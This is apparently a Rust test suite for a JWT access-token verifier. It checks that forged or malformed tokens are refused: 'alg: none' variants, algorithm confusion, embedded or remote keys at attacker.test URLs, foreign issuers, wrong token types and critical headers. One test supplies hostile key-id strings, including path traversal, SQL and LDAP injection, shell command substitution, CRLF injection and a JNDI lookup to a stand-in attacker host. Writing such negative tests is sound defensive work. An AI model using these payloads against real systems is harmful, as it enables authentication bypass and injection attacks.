//! The header: it may repeat what the key says, and choose nothing.

use serde_json::json;
use shared::{Algorithm, TokenSigner};

use crate::{Bench, Case, bent};

/// J01. The signature is good, so the header alone can be the reason; without a signature it is no better.
#[tokio::test]
async fn an_algorithm_that_is_none_missing_or_nonsense_is_refused() {
    let table = [
        (r#","alg":"none""#, "wrong_algorithm"),
        (r#","alg":"None""#, "wrong_algorithm"),
        (r#","alg":"NONE""#, "wrong_algorithm"),
        (r#","alg":"nOnE""#, "wrong_algorithm"),
        (r#","alg":"none ""#, "wrong_algorithm"),
        (r#","alg":"\u006eone""#, "wrong_algorithm"),
        (r#","alg":"none\u0000""#, "wrong_algorithm"),
        (r#","alg":"""#, "wrong_algorithm"),
        (r#","alg":"es256""#, "wrong_algorithm"),
        (r#","alg":"EDDSA""#, "wrong_algorithm"),
        (r#","alg":"rs256""#, "wrong_algorithm"),
        ("", "malformed"),
        (r#","alg":null"#, "malformed"),
        (r#","alg":1"#, "malformed"),
        (r#","alg":["none"]"#, "malformed"),
        (r#","alg":{}"#, "malformed"),
        (r#","alg":"none","alg":"none""#, "malformed"),
    ];
    for bench in Bench::all() {
        let start = format!(r#"{{"typ":"at+jwt","kid":"{}""#, bench.issuer.signer().kid());
        let mut cases = Vec::new();
        for (member, expected) in table {
            let signed =
                bench.sign_text(&format!("{start}{member}}}"), &bench.claims().to_string());
            let (message, _) = signed.rsplit_once('.').unwrap();
            cases.push((format!("unsigned {member}"), format!("{message}."), expected));
            cases.push((format!("signed {member}"), signed, expected));
        }
        let own = bench.algorithm.name();
        let twice = bench.sign_text(
            &format!(r#"{start},"alg":"none","alg":"{own}"}}"#),
            &bench.claims().to_string(),
        );
        cases.push(("none, then our own".into(), twice, "malformed"));
        bench.check(cases).await;
    }
}

/// J01. Two parsers could read different ones, whichever member it is.
#[tokio::test]
async fn no_member_of_the_header_may_occur_twice() {
    for bench in Bench::all() {
        let header = bench.issuer.header();
        let start = header.to_string().trim_end_matches('}').to_owned();
        let mut members: Vec<String> = header
            .as_object()
            .unwrap()
            .iter()
            .map(|(name, value)| format!(r#","{name}":{value}"#))
            .collect();
        members.push(r#","x":1,"x":1"#.to_owned());
        members.push(r#","x":{"a":1,"a":1}"#.to_owned());
        let token = |member: &str| {
            bench.sign_text(&format!("{start}{member}}}"), &bench.claims().to_string())
        };
        let mut cases: Vec<Case> = vec![("once".into(), token(r#","x":1"#), crate::ACCEPTED)];
        for member in &members {
            cases.push((member.clone(), token(member), "malformed"));
        }
        bench.check(cases).await;
    }
}

/// J09. A key has exactly one algorithm, also within its family.
#[tokio::test]
async fn every_algorithm_but_the_keys_own_is_refused() {
    let names = [
        "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256",
        "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448", "RSA1_5", "dir",
    ];
    for bench in Bench::all() {
        let others = names.into_iter().filter(|name| *name != bench.algorithm.name());
        let case = |name: &str| {
            (name.to_owned(), bench.with_header(json!({"alg": name})), "wrong_algorithm")
        };
        let mut cases: Vec<Case> = others.map(case).collect();
        // Nobody goes and looks for the key of an algorithm that we do not use.
        let unknown = bench.with_header(json!({"alg": "HS256", "kid": "unknown"}));
        cases.push(("HS256 and an unknown key".into(), unknown, "wrong_algorithm"));
        bench.check(cases).await;
    }
}

/// J04, J05. They are refused even under our own signature, so nobody will ever follow them.
#[tokio::test]
async fn a_token_that_brings_its_own_key_is_refused() {
    for bench in Bench::all() {
        let attacker = Bench::new(bench.algorithm);
        let key = json!(attacker.issuer.signer().public_key());
        let members = [
            json!({"jwk": key}),
            json!({"x5c": ["MIIB"]}),
            json!({"jku": "http://attacker.test/jwks.json"}),
            json!({"x5u": "http://attacker.test/cert.pem"}),
        ];
        let mut cases: Vec<Case> = Vec::new();
        for member in members {
            let header = bent(bench.issuer.header(), member.clone());
            let forged = attacker.sign(&header, &bench.claims());
            cases.push((format!("forged {member}"), forged, "malformed"));
            cases.push((
                format!("ours {member}"),
                bench.sign(&header, &bench.claims()),
                "malformed",
            ));
            let own =
                attacker.sign(&bent(attacker.issuer.header(), member.clone()), &bench.claims());
            cases.push((format!("the attacker's {member}"), own, "malformed"));
        }
        bench.check(cases).await;
    }
}

/// J06. The attacker may be an issuer in good standing, with a key set of its own.
#[tokio::test]
async fn the_token_of_another_issuer_is_refused() {
    for bench in Bench::all() {
        let attacker = Bench::new(bench.algorithm);
        let claims = bent(bench.claims(), json!({"iss": "https://attacker.test"}));
        let unknown = attacker.sign(&attacker.issuer.header(), &claims);
        let borrowed_kid = attacker.sign(&bench.issuer.header(), &claims);
        let borrowed_both = attacker.sign(&bench.issuer.header(), &bench.claims());
        let borrowed_issuer = attacker.sign(&attacker.issuer.header(), &bench.claims());
        bench
            .check(vec![
                ("own kid, own iss".into(), unknown, "unknown_key"),
                ("own kid, our iss".into(), borrowed_issuer, "unknown_key"),
                ("our kid, own iss".into(), borrowed_kid, "bad_signature"),
                ("our kid, our iss".into(), borrowed_both, "bad_signature"),
                (
                    "our key, own iss".into(),
                    bench.with_claims(json!({"iss": "https://attacker.test"})),
                    "wrong_issuer",
                ),
            ])
            .await;
    }
}

/// J07. A key id is looked up, never a path, a query or a command; and no error repeats it.
#[tokio::test]
async fn a_key_id_that_means_something_elsewhere_is_an_unknown_key() {
    let long = "k".repeat(128);
    let texts = [
        "",
        "/dev/null",
        "../../../../dev/null",
        "file:///dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'k",
        "*)(uid=*))(|(uid=*",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "a\r\nX-Injected: 1",
        "a\u{0}b",
        "\u{202e}",
        "{{7*7}}",
        "${jndi:ldap://attacker.test/a}",
        long.as_str(),
    ];
    for bench in Bench::all() {
        let mut cases: Vec<Case> = Vec::new();
        for text in texts {
            let token = bench.with_header(json!({"kid": text}));
            let error = bench.verifier.verify(&token).await.unwrap_err().to_string();
            assert!(!error.contains(['\r', '\n', '\0']), "{error:?}");
            cases.push((format!("kid {text:?}"), token, "unknown_key"));
        }
        let too_long = [129, 6 * 1024].map(|bytes| json!("k".repeat(bytes)));
        for kid in
            [json!(1), json!(true), json!(["a"]), json!({"a": 1})].into_iter().chain(too_long)
        {
            let token = bench.with_header(json!({"kid": kid}));
            cases.push((format!("kid {kid:.20}"), token, "malformed"));
        }
        cases.push(("no kid".into(), bench.with_header(json!({"kid": null})), "malformed"));
        bench.check(cases).await;
    }
}

/// J13. What the header demands of us and we do not do makes the token unreadable (RFC 7515 section 4.1.11).
#[tokio::test]
async fn a_header_that_changes_the_meaning_of_the_token_is_refused() {
    let members = [
        json!({"crit": ["exp"]}),
        json!({"crit": ["urn:example:unknown"], "urn:example:unknown": true}),
        json!({"crit": []}),
        json!({"crit": "exp"}),
        json!({"b64": false}),
        json!({"b64": false, "crit": ["b64"]}),
        json!({"zip": "DEF"}),
    ];
    for bench in Bench::all() {
        let case = |member: &serde_json::Value| {
            (member.to_string(), bench.with_header(member.clone()), "malformed")
        };
        bench.check(members.iter().map(case).collect()).await;
    }
}

/// J20. An ID token or a refresh token of the same issuer is signed by the same key, but is no access token.
#[tokio::test]
async fn a_token_of_another_type_is_refused() {
    let types = [
        "JWT",
        "jwt",
        "",
        "id+jwt",
        "refresh+jwt",
        "logout+jwt",
        "dpop+jwt",
        "at",
        "at+jwt2",
        "application/jwt",
        "application/application/at+jwt",
        "text/at+jwt",
    ];
    for bench in Bench::all() {
        let case = |typ: &str| {
            (format!("typ {typ:?}"), bench.with_header(json!({"typ": typ})), "malformed")
        };
        let mut cases: Vec<Case> = types.into_iter().map(case).collect();
        for typ in [json!(null), json!(1), json!(["at+jwt"])] {
            cases.push((format!("typ {typ}"), bench.with_header(json!({"typ": typ})), "malformed"));
        }
        // RFC 7515 section 4.1.9: a media type, with or without its prefix, in any case.
        for typ in ["AT+JWT", "application/at+jwt", "Application/AT+JWT"] {
            let token = bench.with_header(json!({"typ": typ}));
            cases.push((format!("typ {typ}"), token, crate::ACCEPTED));
        }
        bench.check(cases).await;
    }
}

/// The key of one algorithm under the id of another's key, as an issuer might mix them up.
#[tokio::test]
async fn a_token_signed_by_the_key_of_another_algorithm_is_refused() {
    for bench in Bench::all() {
        let mut cases: Vec<Case> = Vec::new();
        for algorithm in Algorithm::ALL.into_iter().filter(|one| *one != bench.algorithm) {
            let other = Bench::new(algorithm);
            let kid = json!({"kid": bench.issuer.signer().kid()});
            let token = other.sign(&bent(other.issuer.header(), kid), &bench.claims());
            cases.push((format!("{algorithm} with our kid"), token, "wrong_algorithm"));
            let token = other.sign(&bench.issuer.header(), &bench.claims());
            cases.push((format!("{algorithm} signs, our header"), token, "bad_signature"));
        }
        bench.check(cases).await;
    }
}

/// A signer and a verifier in other processes than the issuer's tests: the kid is the key's own thumbprint.
#[test]
fn the_same_key_has_the_same_id_wherever_it_is_loaded() {
    for algorithm in Algorithm::ALL {
        let pkcs8 = TokenSigner::generate(algorithm).unwrap();
        let load = || TokenSigner::from_pkcs8(algorithm, &pkcs8).unwrap().kid().to_owned();
        assert_eq!(load(), load());
    }
}
